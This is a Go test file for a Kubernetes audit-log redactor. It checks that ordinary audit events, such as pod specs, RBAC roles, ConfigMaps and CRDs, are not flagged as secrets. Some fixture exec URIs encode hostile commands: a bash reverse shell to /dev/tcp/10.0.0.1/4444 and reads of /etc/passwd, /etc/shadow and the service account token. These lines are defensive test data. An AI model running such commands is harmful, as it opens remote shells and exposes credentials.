package ingest

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"

	"bulwark.dev/bulwark/internal/audit"
)

// ordinary are bodies and addresses without a secret in them, as every cluster has
// them.
func ordinary() map[string]*audit.Event {
	certificate := "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUQ0RENDQXNpZ0F3SUJBZ0lVQkFmT2RzVWVaMzR3K0FWZWFhZz0KLS0tLS1FTkQgQ0VSVElGSUNBVEUtLS0tLQo="
	body := func(resource, text string) *audit.Event {
		e := about(resource, "create")
		e.RequestObject = json.RawMessage(text)
		return e
	}
	uri := func(uri string) *audit.Event {
		e := about("pods/exec", "create")
		e.RequestURI = uri
		return e
	}
	out := map[string]*audit.Event{
		"pod": body("pods", `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-7d9c6b8f5-x2x4z","generateName":"web-7d9c6b8f5-","labels":{"pod-template-hash":"7d9c6b8f5"},"annotations":{"kubernetes.io/config.seen":"2026-01-01T00:00:00Z","checksum/secret":"8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92"}},
			"spec":{"serviceAccountName":"web","automountServiceAccountToken":true,"imagePullSecrets":[{"name":"regcred"}],"containers":[{"name":"web","image":"registry.example.com/secret:token","env":[
			{"name":"PASSWORD_FILE","value":"/run/secrets/password"},{"name":"DB_PASSWORD","valueFrom":{"secretKeyRef":{"name":"db","key":"password"}}},{"name":"TOKEN","value":"$(OTHER_TOKEN)"},{"name":"USE_TOKEN","value":"true"},{"name":"PWD","value":"/app"},
			{"name":"SECRET_NAME","value":"db"},{"name":"TOKEN_TTL","value":"1h"},{"name":"MAX_TOKENS","value":"4096"},{"name":"URL","value":"https://api.example.com:8443/v1/token?x=y"}],
			"command":["/bin/sh","-c","mkdir -p /data && tar -pxf x.tar && ssh -p 22 git@host && echo password: ; exec app --token-file /x --port=80"],
			"volumeMounts":[{"name":"kube-api-access-abcde","mountPath":"/var/run/secrets/kubernetes.io/serviceaccount"}],"livenessProbe":{"httpGet":{"path":"/healthz","port":8080,"httpHeaders":[{"name":"X-Probe","value":"1"}]}}}],
			"volumes":[{"name":"kube-api-access-abcde","projected":{"sources":[{"serviceAccountToken":{"expirationSeconds":3607,"path":"token"}},{"configMap":{"name":"kube-root-ca.crt"}}]}},{"name":"s","secret":{"secretName":"db","defaultMode":420}}]}}`),
		"control plane": body("pods", `{"spec":{"containers":[{"name":"kube-apiserver","command":["kube-apiserver","--service-account-key-file=/etc/kubernetes/pki/sa.pub","--service-account-signing-key-file=/etc/kubernetes/pki/sa.key","--tls-private-key-file=/etc/kubernetes/pki/apiserver.key","--enable-bootstrap-token-auth=true","--use-service-account-credentials=true","--authentication-token-webhook=true","--token-auth-file","/etc/x","--requestheader-username-headers=X-Remote-User","--enable-admission-plugins=NodeRestriction"]}]}}`),
		"webhook":       body("admissionregistration.k8s.io/validatingwebhookconfigurations", `{"webhooks":[{"clientConfig":{"caBundle":"`+certificate+`","service":{"name":"w","path":"/v"}},"name":"a.b.c","rules":[{"resources":["secrets","serviceaccounts/token","tokenreviews"],"operations":["*"]}]}]}`),
		"role":          body("rbac.authorization.k8s.io/clusterroles", `{"kind":"ClusterRole","rules":[{"apiGroups":[""],"resources":["secrets","serviceaccounts/token"],"verbs":["get","create"],"resourceNames":["password","token"]}]}`),
		"account":       body("serviceaccounts", `{"kind":"ServiceAccount","secrets":[{"name":"default-token-abcde"}],"imagePullSecrets":[{"name":"regcred"}],"metadata":{"uid":"5f0b3b1e-7d4b-4a57-8c0d-2d8f7f4e1a11"}}`),
		"request":       body("certificates.k8s.io/certificatesigningrequests", `{"kind":"CertificateSigningRequest","spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1ZqQ0NBVDRDQVFBd0VURVBNQTBHQTFVRUF3d0dZVzVuWld4aE1JSUJJakFOQmdrcWhraUc5dzBCQVFFRg==","signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}}`),
		"ingress":       body("networking.k8s.io/ingresses", `{"kind":"Ingress","metadata":{"annotations":{"nginx.ingress.kubernetes.io/auth-secret":"basic-auth","nginx.ingress.kubernetes.io/auth-type":"basic","cert-manager.io/private-key-secret-name":"x"}},"spec":{"tls":[{"hosts":["a.b"],"secretName":"tls"}]}}`),
		"reference":     body("external-secrets.io/externalsecrets", `{"kind":"ExternalSecret","spec":{"secretStoreRef":{"name":"vault","kind":"SecretStore"},"target":{"name":"db"},"data":[{"secretKey":"password","remoteRef":{"key":"secret/data/db","property":"password"}}]}}`),
		"grant":         body("gateway.networking.k8s.io/referencegrants", `{"kind":"ReferenceGrant","spec":{"from":[{"group":"gateway.networking.k8s.io","kind":"Gateway","namespace":"a"}],"to":[{"group":"","kind":"Secret","name":"tls"}]}}`),
		"sealed":        body("bitnami.com/sealedsecrets", `{"kind":"SealedSecret","spec":{"encryptedData":{"a":"AgBy3i4OJSWK+PiTySYZZA9rO43cGDEq"}}}`),
		"config":        body("configmaps", `{"kind":"ConfigMap","data":{"ca.crt":"-----BEGIN CERTIFICATE-----\nMIIDBTCCAe2gAwIBAgIIVx\n-----END CERTIFICATE-----\n","Corefile":".:53 {\n errors\n health {\n lameduck 5s\n }\n kubernetes cluster.local in-addr.arpa ip6.arpa {\n pods insecure\n }\n}","jws-kubeconfig-abcdef":"eyJhbGciOiJIUzI1NiIsImtpZCI6ImFiY2RlZiJ9..mRkVQ1Yp2k6hZQ","LOG_LEVEL":"info","password_policy":"min=8","tokens_per_minute":"5","TOKEN_URL":"https://id.example.com/token","x.yaml":"secretName: db\npasswordFile: /x\npassword: ${PASSWORD}\ntoken: \"\"\n"}}`),
		"status":        body("secrets", `{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"secrets \"db-password\" not found","reason":"NotFound","details":{"name":"db-password","kind":"secrets"},"code":404}`),
		"options":       body("secrets", `{"kind":"DeleteOptions","apiVersion":"v1","propagationPolicy":"Background"}`),
		"table":         body("secrets", `{"kind":"Table","columnDefinitions":[{"name":"Name"}],"rows":[{"cells":["db","Opaque",3,"5d"],"object":{"kind":"PartialObjectMetadata","metadata":{"name":"db","managedFields":[{"fieldsV1":{"f:data":{"f:password":{}}}}]}}}]}`),
		"patch":         body("secrets", `[{"op":"add","path":"/metadata/labels/a","value":"b"},{"op":"remove","path":"/data/x"}]`),
		"event":         body("events", `{"kind":"Event","involvedObject":{"kind":"Secret","name":"db-password","namespace":"a"},"message":"MountVolume.SetUp failed for volume \"s\" : secret \"db-password\" not found","reason":"FailedMount"}`),
		"review":        body("authorization.k8s.io/subjectaccessreviews", `{"kind":"SubjectAccessReview","spec":{"resourceAttributes":{"resource":"secrets","verb":"get"},"user":"a","extra":{"authentication.kubernetes.io/credential-id":["JTI=5f0b3b1e-7d4b-4a57-8c0d-2d8f7f4e1a11"]}}}`),
		"applied":       body("services", `{"metadata":{"annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"apiVersion\":\"v1\",\"kind\":\"Service\",\"spec\":{\"ports\":[{\"port\":80}]}}\n"}}}`),
		"shell":         uri("/api/v1/namespaces/a/pods/p/exec?command=sh&command=-c&command=ls+-la+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdin=true&tty=true"),
		"cat":           uri("/api/v1/namespaces/a/pods/p/exec?command=cat&command=%2Fetc%2Fpasswd&container=c&stdout=true"),
		"tar":           uri("/api/v1/namespaces/a/pods/p/exec?command=tar&command=cf&command=-&command=-p&command=%2Fetc%2Fshadow"),
		"reverse":       uri("/api/v1/namespaces/a/pods/p/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444+0%3E%261"),
		"secret's name": uri("/api/v1/namespaces/kube-system/secrets/bootstrap-token-abcdef"),
		"token":         uri("/api/v1/namespaces/a/serviceaccounts/default/token?timeout=10s"),
		"list":          uri("/api/v1/secrets?limit=500&continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MTIzLCJzdGFydCI6ImEvYiJ9&labelSelector=app%3Dtoken&fieldSelector=type%3Dkubernetes.io%2Fservice-account-token"),
		"proxied":       uri("/api/v1/namespaces/monitoring/services/http:prometheus:9090/proxy/api/v1/query?query=sum%28rate%28http_requests_total%7Bcode%3D~%225..%22%7D%5B5m%5D%29%29&time=1700000000"),
		"user": {
			Kind: audit.KindAPI, UserAgent: "kubectl/v1.36.3 (linux/amd64) kubernetes/0123456", RequestURI: "/api/v1/namespaces/a/pods",
			User:   audit.User{Username: "ann", Extra: map[string][]string{"authentication.kubernetes.io/credential-id": {"JTI=5f0b3b1e"}, "accessKeyId": {"ASIAABCDEFGHIJKLMNOP"}}},
			Status: audit.Status{Message: `pods "a" is forbidden: User "ann" cannot get resource "secrets"`},
			Annotations: map[string]string{
				"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": `RBAC: allowed by ClusterRoleBinding "token" of ClusterRole "secret"`,
				"mutation.webhook.admission.k8s.io/round_0_index_1": `{"configuration":"token-injector","webhook":"a.b.c","mutated":false}`,
				"pod-security.kubernetes.io/audit-violations":       `would violate PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "token" must set securityContext)`,
			},
		},
	}
	hook := body("secrets", "")
	hook.RequestObject, hook.Annotations = nil, map[string]string{"mutation.webhook.admission.k8s.io/round_0_index_1": `{"configuration":"c","webhook":"a.b.c","mutated":true}`}
	out["webhook of a secret"] = hook
	return out
}

func TestRedactOrdinary(t *testing.T) {
	t.Parallel()
	for name, e := range ordinary() {
		if len(e.RequestObject) > 0 {
			e.RequestObject = canonicalBody(t, string(e.RequestObject))
		}
		before := string(audit.AppendCanonical(nil, e))
		if o := redactor(t).Redact(e); len(o) != 0 {
			for _, opening := range o {
				t.Errorf("%s: %s: %s", name, opening.Path, opening.Value)
			}
		}
		if after := string(audit.AppendCanonical(nil, e)); len(e.Redactions) == 0 && after != before {
			t.Errorf("%s was changed:\n%s\n%s", name, before, after)
		}
	}
}

// The custom resources of this repository have long descriptions, and fields that
// are called password and token.
func TestRedactDefinitions(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(filepath.FromSlash("../../../deploy/crds/*.yaml"))
	if err != nil || len(files) < 2 {
		t.Fatalf("%d definitions: %v", len(files), err)
	}
	for _, file := range files {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for part := range strings.SplitSeq(string(text), "\n---\n") {
			raw, err := yaml.YAMLToJSON([]byte(part))
			if err != nil {
				t.Fatal(err)
			}
			e := about("apiextensions.k8s.io/customresourcedefinitions", "create")
			e.RequestObject = canonicalBody(t, string(raw))
			for _, o := range redactor(t).Redact(e) {
				t.Errorf("%s: %s: %s", filepath.Base(file), o.Path, o.Value)
			}
		}
	}
}
